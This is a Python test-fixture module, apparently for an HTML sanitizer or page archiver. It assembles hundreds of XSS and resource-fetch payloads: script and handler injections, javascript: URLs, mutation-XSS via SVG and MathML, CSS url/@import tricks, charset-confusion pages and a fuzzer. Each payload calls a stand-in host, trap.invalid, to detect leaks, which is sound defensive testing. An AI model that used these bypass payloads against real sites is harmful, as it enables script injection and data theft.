"""Captured pages that want out: each asks a trap for something, or runs what says so, wherever a browser lets it.

`TRAP` stands for the address of a server that counts what it is asked for. A script that runs writes `RAN` into the
page's title and into the frame around it, and asks the trap.
"""

# ruff: noqa: E501 - a kind is a line

from __future__ import annotations

import base64
import random
from collections.abc import Iterator

TRAP, RAN = b"http://trap.invalid", "SCRIPT-RAN"
# Without a blank or a quote: it stands in attributes of every spelling.
JS = b"document.title=`SCRIPT-RAN`;try{top.document.title=`SCRIPT-RAN`}catch(e){};(new(Image)).src=`http://trap.invalid/ran`"
_DATA_HTML = b"data:text/html;base64," + base64.b64encode(b"<script>" + JS + b"</script>")
SVG = (
    b"<svg xmlns='http://www.w3.org/2000/svg'><script>"
    + JS
    + b"</script><image href='http://trap.invalid/svg-image'/></svg>"
)
_DATA_SVG = b"data:image/svg+xml;base64," + base64.b64encode(SVG)
GIF = b"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

FRAGMENTS: dict[str, bytes] = {
    "scripts": b"<script>JS</script><script src=TRAP/a.js></script><script src=TRAP/b.mjs type=module></script><SCRIPT/x SRC=TRAP/c.js></sCrIpT >",
    "scripts unclosed": b"<script>JS//</scr<script>JS</script><script/src=TRAP/d.js",
    "script data escaped": b"<script><!--<script>JS</script>--></script><script><!--\nJS\n//--></script>",
    "import maps and preloads": b'<script type=speculationrules>{"prefetch":[{"source":"list","urls":["TRAP/sr"]}]}</script><link rel=modulepreload href=TRAP/mp.js>',
    "meta": b'<meta http-equiv=refresh content="0;url=TRAP/refresh"><meta http-equiv="REFRESH" content="0; URL=javascript:JS"><meta http-equiv=refresh content="1"><meta http-equiv=set-cookie content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src *; report-uri TRAP/csp">',
    "base": b"<base href=TRAP/base/><img src=rel.png><a href=rel>a</a><base target=_top href='TRAP//x'>",
    "links": b'<link rel=stylesheet href=TRAP/l.css><link rel="icon shortcut" href=TRAP/i.ico><link rel=preload as=image href=TRAP/p.png><link rel=prefetch href=TRAP/pf><link rel=dns-prefetch href=//trap.invalid><link rel=preconnect href=TRAP><link rel=prerender href=TRAP/pr><link rel=manifest href=TRAP/m.json><link rel=import href=TRAP/i.html><link rel=alternate\tstylesheet href=TRAP/alt.css title=a><link rel=pingback href=TRAP/pb><link rel=mask-icon href=TRAP/mi.svg><link rel=apple-touch-icon href=TRAP/at.png>',
    "html manifest": b"<html manifest=TRAP/appcache xmlns:x='TRAP/x' onload=JS profile=TRAP/pro><head profile=TRAP/p>",
    "body": b"<body onload=JS onpageshow=JS onfocus=JS background=TRAP/bg.png style='background:url(TRAP/st.png)'>",
    "form": b"<form action=TRAP/f method=post target=_top onsubmit=JS><input name=a autofocus onfocus=JS onblur=JS><input type=image src=TRAP/in.png formaction=TRAP/fa><button formaction=javascript:JS>b</button><input type=submit formaction=TRAP/x><isindex action=TRAP/is type=image src=TRAP/isrc><keygen challenge=x><input type=hidden name=_charset_><textarea dirname=x form=y></textarea></form><form id=test></form><button form=test formaction=TRAP/y>x",
    "images": b"<img src=TRAP/1.png onerror=JS onload=JS><img srcset='TRAP/2.png 1x, TRAP/3.png 2x' sizes=100vw><img lowsrc=TRAP/4.png dynsrc=TRAP/5.avi longdesc=TRAP/6><image src=TRAP/7.png><picture><source srcset=TRAP/8.webp type=image/webp><img src=TRAP/9.png></picture><img/src=TRAP/10.png/onerror=JS><img src='x:x' onerror=JS><IMG \"\"\"><SCRIPT>JS</SCRIPT>\">",
    "images by script": b"<img data-src=TRAP/d.png src=TRAP/blank.gif><img data-original='TRAP/o.jpg' zoomfile=TRAP/z.jpg file=TRAP/f.jpg><img data-srcset='TRAP/ds.png 2x'>",
    "image protocols": b"<img src=//trap.invalid/p.png><img src='\\\\trap.invalid\\q.png'><img src='http:/\\trap.invalid/r.png'><img src='ftp://trap.invalid/s.png'><img src='blob:TRAP/t'><img src='filesystem:TRAP/t'><img src='view-source:TRAP'><img src=' &#10;h\nt\tt&#9;p://trap.invalid/u.png'><img src=\"javascript:JS\"><img src='https:trap.invalid/v'>",
    "data images": b"<img src='" + GIF + b"'><img src='" + _DATA_SVG + b"'><img src='data:image/gif;base64,PHN2Zz4='><img src='data:image/png,<svg>'><img src='data:image/gif;base64,R0lGODlh\" onerror=JS x=\"'>",
    "frames": b"<iframe src=TRAP/if></iframe><iframe srcdoc='<script>JS</script><img src=TRAP/sd>'></iframe><iframe src=\"javascript:JS\"></iframe><iframe src='" + _DATA_HTML + b"'></iframe><iframe srcdoc=\"&lt;script&gt;JS&lt;/script&gt;\">",
    "framesets": b"<frameset onload=JS><frame src=TRAP/fr><frame src=javascript:JS><noframes><img src=TRAP/nf onerror=JS></noframes></frameset>",
    "objects": b"<object data=TRAP/ob type=text/html codebase=TRAP classid=clsid:x><param name=movie value=TRAP/pm><embed src=TRAP/em><img src=TRAP/fallback.png></object><embed src='" + _DATA_SVG + b"'><embed code=TRAP/ec><applet code=TRAP/ap archive=TRAP/a.jar codebase=TRAP/></applet><object data='" + _DATA_HTML + b"'><portal src=TRAP/po></portal><fencedframe src=TRAP/ff></fencedframe><webview src=TRAP/wv>",
    "players": b"<video src=TRAP/v.mp4 poster=TRAP/po.png autoplay onloadstart=JS><source src=TRAP/s.mp4 onerror=JS><track src=TRAP/t.vtt default></video><audio src=TRAP/a.mp3 autoplay><bgsound src=TRAP/bg.mid><video><source onerror=JS>",
    "links to run": b"<a href=javascript:JS id=clickme>x</a><a href=' java\nscript:JS'>x</a><a href='&#1;javascript:JS'>x</a><a href='jav&#x09;ascript:JS'>x</a><a href=\"&#x6A&#x61vascript&colon;JS\">x</a><a href='vbscript:msgbox(1)'>x</a><a href='" + _DATA_HTML + b"'>x</a><a href='livescript:JS' ping=TRAP/ping download=x>x</a><area href=javascript:JS><a xlink:href=javascript:JS>x</a><a href='feed:javascript:JS'>x</a><a href='blob:null/1'>x</a><a href='javascript&#58JS'>x</a><a href='TRAP/a' ping='TRAP/ping2' target=x rel=opener onclick=JS onmouseover=JS>x</a><map name=m><area shape=rect coords=0,0,9,9 href=TRAP/area ping=TRAP/p></map>",
    "handlers": b"<div onclick=JS onmouseover=JS onanimationstart=JS onbeforetoggle=JS oncontentvisibilityautostatechange=JS onscrollend=JS onpointerrawupdate=JS style='animation:x 1s'>x</div><details ontoggle=JS open><summary>s</summary></details><marquee onstart=JS behavior=alternate>m</marquee><body onscroll=JS onhashchange=JS><input onfocus=JS autofocus><p/onclick=JS/x><p onclick\n=\nJS><p on click=JS ONCLICK=JS><xss onfocus=JS tabindex=1 contenteditable autofocus><div popover onbeforetoggle=JS id=pop></div><button popovertarget=pop commandfor=pop command=show-popover>",
    "svg": b"<svg onload=JS><script>JS</script><script href=TRAP/s.js /><script xlink:href=TRAP/s2.js /><image href=TRAP/i.png xlink:href=TRAP/i2.png onerror=JS /><use href='TRAP/u.svg#x' xlink:href='" + _DATA_SVG + b"#x'/><foreignObject><iframe src=TRAP/fo></iframe><img src=x: onerror=JS></foreignObject><animate attributeName=href values=javascript:JS onbegin=JS /><set attributeName=onmouseover to=JS /><a xlink:href=javascript:JS><text>x</text></a><feImage href=TRAP/fe.png /><style>@import 'TRAP/svg.css';*{fill:url(TRAP/fill)}</style><handler type=text/javascript ev:event=load>JS</handler></svg>",
    "mathml": b"<math href=javascript:JS xlink:href=javascript:JS><maction actiontype=statusline#TRAP xlink:href=javascript:JS>c</maction><mtext><img src=x: onerror=JS></mtext><annotation-xml encoding=text/html><script>JS</script></annotation-xml><mglyph src=TRAP/mg></math>",
    "mutations": b"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=JS&gt;\"><svg><style><img src=TRAP/mx onerror=JS></style></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror=JS></style>",
    "mutations of noscript": b"<noscript><p title=\"</noscript><img src=TRAP/ns onerror=JS>\"></noscript><noscript><style></noscript><img src=x: onerror=JS></style>",
    "mutations of raw text": b"<xmp><p title=\"</xmp><img src=x: onerror=JS>\"></xmp><noembed><img title=\"</noembed><img src=x: onerror=JS>\"></noembed><textarea><img title=\"</textarea><img src=x: onerror=JS>\"></textarea><title><img title=\"</title><img src=x: onerror=JS>\"></title><listing>&lt;img src=x: onerror=JS&gt;</listing><iframe><img title=\"</iframe><img src=x: onerror=JS>\"></iframe><style><img title=\"</style><img src=x: onerror=JS>\"></style><plaintext><img src=x: onerror=JS>",
    "mutations of select": b"<select><option><style></option></select><img src=x: onerror=JS></style><select><template><script>JS</script></template><math><style><img src=x: onerror=JS></style>",
    "mutations of tables": b"<table><a href=javascript:JS><tr><td><script>JS</script><table><style></table><img src=x: onerror=JS></style><caption><svg><desc><td><style><img src=x: onerror=JS>",
    "mutations of svg": b"<svg><p><style><g title=\"</style><img src=x: onerror=JS>\"></svg><svg></p><style><a id=\"</style><img src=1 onerror=JS>\"><svg><desc><noscript></svg><img src=TRAP/sv>",
    "comments": b"<!--><img src=TRAP/c1 onerror=JS>--><!---><img src=TRAP/c2>--><!-- --!><img src=TRAP/c3 onerror=JS><!-- > --><![CDATA[<img src=TRAP/c4 onerror=JS>]]><?xml-stylesheet href=TRAP/x.css?><?php <img src=TRAP/c5>?><!x><!DOCTYPE html [<!ENTITY x SYSTEM 'TRAP/ent'>]>&x;</ x><%<img src=TRAP/c6 onerror=JS>%>",
    "templates": b"<template><script>JS</script><img src=TRAP/t></template><div><template shadowrootmode=open><script>JS</script><style>@import 'TRAP/sh.css'</style><img src=TRAP/sh onerror=JS><slot></slot></template></div><template shadowroot=open><link rel=stylesheet href=TRAP/sh2.css></template>",
    "custom elements": b"<x-a is=x onclick=JS></x-a><o:p onmouseover=JS>x</o:p><svg:script xmlns:svg='http://www.w3.org/2000/svg'>JS</svg:script><html:script>JS</html:script><x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script><a:b c:onclick=JS>",
    "style element": b"<style>@import 'TRAP/a.css';@import url(TRAP/b.css);@IMPORT URL( 'TRAP/c.css' ) screen;@\\69 mport 'TRAP/d.css';@import/**/'TRAP/e.css';@import\n\"TRAP/f.css\"layer(x) supports(display:grid);@charset 'x';@import u\\rl(TRAP/g.css);a{b:c}</style><style media=all onload=JS>@import url('TRAP/h.css') ,print</style><style type=text/css><!-- @import 'TRAP/i.css'; --></style>",
    "style addresses": b"<style>*{background:url(TRAP/1);background:URL('TRAP/2');background:u\\72 l(TRAP/3);background:\\75\\52\\4c(TRAP/4);background:url(\n TRAP/5 \n);background:url( 'TRAP/6' );background:/**/url(/**/TRAP/7);background:url(h\\74tp://trap.invalid/8);background:url(//trap.invalid/9);list-style:url(TRAP/10);content:url(TRAP/11);cursor:url(TRAP/12),auto;mask:url(TRAP/13#m);filter:url(TRAP/14#f);border-image:url(TRAP/15) 30;clip-path:url(TRAP/16#c);shape-outside:url(TRAP/17);offset-path:url(TRAP/18#p)}*::before{content:url(TRAP/19)}*::marker{content:url(TRAP/20)}</style>",
    "style functions": b"<style>*{background:image-set('TRAP/1' 1x,url(TRAP/2) 2x);background:-webkit-image-set(url(TRAP/3) 1x);background:image('TRAP/4');background:src('TRAP/5');background:cross-fade(url(TRAP/6),url(TRAP/7));background:i\\mage-set('TRAP/8' 1x);--u:'TRAP/9';background:image-set(var(--u) 1x);--v:url(TRAP/10);background:var(--v);background:url(var(--u));background:src(var(--u));background:element(#x);background:-webkit-cross-fade(url(TRAP/11),url(TRAP/12),50%);background:attr(data-u type(<url>))}</style><p data-u=TRAP/13>x",
    "style fonts": b"<style>@font-face{font-family:x;src:url(TRAP/f.woff2) format('woff2'),local(x),url('TRAP/g.ttf')}*{font-family:x}@FONT-FACE{font-family:y;src:url(TRAP/h.woff)}@\\66ont-face{font-family:z;src:url(TRAP/i.woff)}body{font-family:x,y,z}@font-feature-values x{@styleset{a:1}}@counter-style c{system:fixed;symbols:url(TRAP/j.png)}@property --p{syntax:'<url>';inherits:false;initial-value:url(TRAP/k)}@namespace url(TRAP/ns);@document url(TRAP/doc){*{background:url(TRAP/l)}}@page{background:url(TRAP/m);@top-left{content:url(TRAP/n)}}</style>xyz",
    "style made to close": b"<style>a{content:'</style><img src=TRAP/1 onerror=JS>'}</style><style>/*</style><img src=TRAP/2 onerror=JS>*/</style><style>a{b:'\\3c/style\\3e\\3cimg src=TRAP/3 onerror=JS\\3e'}</style><style>\\3c/style>\\3cscript\\3e JS</style><style><![CDATA[</style><img src=TRAP/4 onerror=JS>]]></style>",
    "style of broken nesting": b"<style>a{b:\"c\n;background:url(TRAP/1)} '}*{background:url(TRAP/2)}' @import 'TRAP/3';(@font-face{src:url(TRAP/4)}[*{background:url(TRAP/5)}/@x;*{content:\"*/ @import url(TRAP/6);*{background:url(TRAP/7)} /*\"}\\</style><style>}}}@import 'TRAP/8';*{background:url(TRAP/9</style><style>*{background:url(\"TRAP/10</style><style>*{background:url(a\\</style><style>*{background:url('TRAP/11\\\n')}url(</style>",
    "style of old browsers": b"<style>*{width:expression(JS);behavior:url(TRAP/x.htc);-moz-binding:url(TRAP/x.xml#x);filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='TRAP/ie.png');xss:ex/**/pression(JS);-o-link:'javascript:JS';-o-link-source:current}</style><xss style='behavior:url(TRAP/y.htc)'><style>@media \\0screen{*{background:url(TRAP/hack)}}*html{background:url(javascript:JS)}_x{background:url(vbscript:x)}</style>",
    "style attributes": b"<p style=\"background:url(TRAP/1)\"><p style='background:u\\72l(&quot;TRAP/2&quot;)'><p style='background:&#117;rl(TRAP/3);}*{background:url(TRAP/4)}'><p style='list-style-image:url(&apos;TRAP/5&apos;)'><p style='--x:url(TRAP/6);background:var(--x)'><p style='background:image-set(\"TRAP/7\" 1x)'><p style=\"x:y\" style=\"background:url(TRAP/8)\"><table background=TRAP/9><td background='TRAP/10'></table><p style='background:url(TRAP/11'><p style='@import \"TRAP/12\"'><p style='background:url(\"data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=JS/>\")'>",
    "attributes of more kinds": b"<blockquote cite=TRAP/1><q cite=TRAP/2></q></blockquote><del cite=TRAP/3></del><p itemtype=TRAP/4 itemid=TRAP/5 about=TRAP/6><table summary=x datasrc=TRAP/7 dataformatas=html><tr><td background=TRAP/8></table><p action=TRAP/9 icon=TRAP/10 src=TRAP/11 href=TRAP/12 data=TRAP/13 poster=TRAP/14 srcdoc='<script>JS</script>' formaction=TRAP/15><menuitem icon=TRAP/16><command icon=TRAP/17><html xmlns=TRAP/18><a attributionsrc=TRAP/19 hreftranslate=x><img attributionsrc=TRAP/20><body link=url(TRAP/21)><div style=x:y nonce=x is=x slot=x part=x exportparts=x>",
    "broken markup": b"<p <img src=TRAP/1 onerror=JS><<img src=TRAP/2 onerror=JS>></p x='><img src=TRAP/3 onerror=JS>'><img alt=`\"><img src=TRAP/4 onerror=JS>`><img alt='a\"b' title=\"c'd\" x=`e` onerror=JS src=TRAP/5><a href=\"x\"onclick=JS\"><im\0g src=TRAP/6 on\0error=JS><scr\0ipt>JS</scr\0ipt><img\x0bsrc=TRAP/7\x0conerror=JS><img\xc2\xa0src=TRAP/8 onerror=JS></br/onclick=JS></p/x><div<script>JS</script>><a =\"x\" =onclick=JS>",
    "behind the end": b"</body></html><script>JS</script><html onclick=JS><body onload=JS><img src=TRAP/1 onerror=JS></html><!--",
    "characters": "<p title='\u2028\u2029\ufeff\ufffe\U000e0001\u202e'>\u202e\u2066<img src=TRAP/1 onerror=JS>\u3000＜script＞JS＜/script＞<img alt='\u2028' src\u3000=TRAP/2 onerror=JS>ſcript<ſcript>JS</ſcript><İmg src=TRAP/3 onerror=JS><\u212amg>".encode(),
    "references": b"&lt;script&gt;JS&lt;/script&gt;&amp;lt;img src=TRAP/1 onerror=JS&amp;gt;&#60;img src=TRAP/2 onerror=JS&#62;&#x3c;script&#x3e;JS&LT;script&GT;<p title='&#39;&#34;&quot;&gt;&lt;img src=TRAP/3 onerror=JS&gt;'>&#0;&#x80;&#xD800;&#x110000;&#999999999999;&#xFFFE;&NotEqualTilde;&nvlt;img src=TRAP/4&nvgt;",
}  # fmt: skip
_PAGE = b"<!DOCTYPE html><html><head><title>t</title></head><body><p>HERE</p>%b<p>END</p></body></html>"
_DIRTY = b"<img src=TRAP/cs onerror=JS><script>JS</script>"


def _charsets() -> Iterator[tuple[str, bytes, str]]:
    """Pages whose bytes read otherwise in another encoding: name, body, Content-Type."""
    seven = (
        "<img src=TRAP/utf7 onerror=JS><script>JS</script>".encode("utf-7")
        .replace(b"<", b"+ADw-")
        .replace(b">", b"+AD4-")
    )
    yield "UTF-7", b"<meta charset=utf-7>" + seven + b"+/v8-" + seven, "text/html; charset=utf-7"
    yield "UTF-7 by its mark", b"+/v8 " + seven, "text/html"
    yield (
        "ISO-2022-JP",
        b'<meta charset=iso-2022-jp><p title=\'\x1b$B\'><img src=TRAP/iso onerror=JS>\x1b(B<a title="\x1b(J\\"onclick=JS">x</a>',
        "text/html; charset=iso-2022-jp",
    )
    yield (
        "ISO-2022-CN",
        b"<meta charset=iso-2022-cn>\x1b$)A\x0e<img src=TRAP/iso onerror=JS>\x0f",
        "text/html; charset=iso-2022-cn",
    )
    yield (
        "HZ",
        b"<meta charset=hz-gb-2312>~{<img src=TRAP/hz onerror=JS>~}~\n" + _DIRTY,
        "text/html; charset=hz-gb-2312",
    )
    yield (
        "GBK that swallows a quote",
        b'<meta charset=gbk><p title="\xa1"><img alt="\x81" src=TRAP/g onerror=JS x=""><a title="\xd6\xd0\x84" onclick=JS href="TRAP/\x90">x</a>'
        + "汉字".encode("gbk") * 50,
        "text/html; charset=gbk",
    )
    yield (
        "Big5 that ends in a backslash",
        b"<meta charset=big5><style>a{b:'\xa5\x5c';background:url(TRAP/1)} \xb3\x5c'@import 'TRAP/2'</style>"
        + "許功蓋這是國家的".encode("big5") * 50,
        "text/html; charset=big5",
    )
    yield (
        "Shift_JIS",
        b"<meta charset=shift_jis><style>a{b:'\x83\x5c';background:url(TRAP/3)}</style>" + _DIRTY,
        "text/html; charset=shift_jis",
    )
    yield "UTF-16 little", b"\xff\xfe" + _dirty().decode("latin-1").encode("utf-16-le"), "text/html"
    yield "UTF-16 big, unmarked", _dirty().decode("latin-1").encode("utf-16-be"), "text/html; charset=utf-8"
    yield "UTF-32", b"\xff\xfe\0\0" + _dirty().decode("latin-1").encode("utf-32-le"), "text/html"
    yield "UTF-8 mark, GBK label", b"\xef\xbb\xbf<meta charset=gbk>" + _DIRTY, "text/html; charset=gbk"
    yield (
        "overlong UTF-8",
        b"\xc0\xbcscript\xc0\xbeJS\xc0\xbc/script\xc0\xbe\xe0\x80\xbcimg src=TRAP/o onerror=JS\xe0\x80\xbe",
        "text/html; charset=utf-8",
    )
    yield "x-user-defined", b"<meta charset=x-user-defined>" + _DIRTY, "text/html; charset=x-user-defined"
    yield "EBCDIC", "<script>JS</script><img src=TRAP/e onerror=JS>".encode("cp037"), "text/html; charset=cp037"
    yield (
        "XHTML",
        b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "<script>JS</script>"><!ENTITY b SYSTEM "TRAP/ent">]><html xmlns="http://www.w3.org/1999/xhtml"><body>&a;&b;<![CDATA[<img src=TRAP/x onerror=JS>]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">JS</x:script></body></html>',
        "application/xhtml+xml",
    )
    yield "SVG for HTML", SVG, "image/svg+xml"
    yield (
        "XML with a style sheet",
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="TRAP/x.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><script>JS</script></html>',
        "text/xml",
    )


def _dirty() -> bytes:
    return _PAGE % _DIRTY


def pages(trap: bytes = TRAP) -> dict[str, tuple[bytes, str]]:
    """Each page by its name: its body and its Content-Type. `trap` is the address they ask."""
    found = {name: (_PAGE % fragment, "text/html; charset=utf-8") for name, fragment in FRAGMENTS.items()}
    found |= {f"bare {name}": (fragment, "text/html") for name, fragment in FRAGMENTS.items()}
    found |= {name: (body, kind) for name, body, kind in _charsets()}
    last = (
        "scripts unclosed",
        "mutations of raw text",
        "frames",
        "framesets",
        "behind the end",
    )  # they swallow what follows
    found["all at once"] = (
        _PAGE % b"\n".join(FRAGMENTS[name] for name in sorted(FRAGMENTS, key=last.__contains__)),
        "text/html; charset=utf-8",
    )
    found["10 MB"] = (_PAGE % (b"<p>" + "正文一行，".encode() * 200 + _DIRTY) * 3_400, "text/html; charset=utf-8")
    found["100,000 nested"] = (_PAGE % (b"<div onclick=JS>" * 100_000 + _DIRTY), "text/html; charset=utf-8")
    found["50,000 in tables"] = (_PAGE % (b"<table><tr><td><svg><style>" * 12_500 + _DIRTY), "text/html; charset=utf-8")
    found["a large style"] = (
        _PAGE % (b"<style>" + b"a{b:url(TRAP/1);c:'d\\'e'}\n" * 8_000 + b"</style>"),
        "text/html",
    )
    return {name: (pointed(body, trap), kind) for name, (body, kind) in found.items()}


def fuzzed(count: int, samples: list[bytes], trap: bytes = TRAP, seed: int = 1) -> Iterator[bytes]:
    """Pages made of pieces of the hostile ones and of `samples`, cut, doubled and shuffled; the same for each seed."""
    chance = random.Random(seed)
    pieces = [*FRAGMENTS.values(), *(body for _, body, _ in _charsets())]
    signs = [
        b"<",
        b">",
        b'"',
        b"'",
        b"`",
        b"/",
        b"=",
        b"\\",
        b"\0",
        b"<!--",
        b"-->",
        b"</style>",
        b"<style>",
        b"</svg>",
        b"<svg>",
        b"<math>",
        b"&lt;",
        b"&#",
        b"\xa1",
        b"\x1b$B",
        b"]]>",
        b"/*",
        b"*/",
        b"url(",
        b"@import ",
        b"</title>",
        b"<table>",
        b"</p>",
    ]
    for _ in range(count):
        made = bytearray(chance.choice(samples) if samples and chance.random() < 0.7 else _PAGE % b"")
        for _ in range(chance.randint(3, 12)):
            piece = chance.choice(pieces)
            first, last = sorted(chance.randrange(len(piece) + 1) for _ in range(2))
            part = piece if chance.random() < 0.5 else piece[first:last]
            at = chance.randrange(len(made) + 1)
            made[at:at] = part
        for _ in range(chance.randint(5, 60)):
            at = chance.randrange(len(made) + 1)
            made[at : at + chance.choice((0, 0, 1, 3))] = chance.choice(signs)
        yield pointed(bytes(made), trap)


def pointed(body: bytes, trap: bytes) -> bytes:
    """The page with the trap's address in it, and with what runs."""
    body = body.replace(b"JS", JS).replace(b"TRAP", TRAP).replace(TRAP, trap)
    return body.replace(b"//trap.invalid", trap.removeprefix(b"http:"))
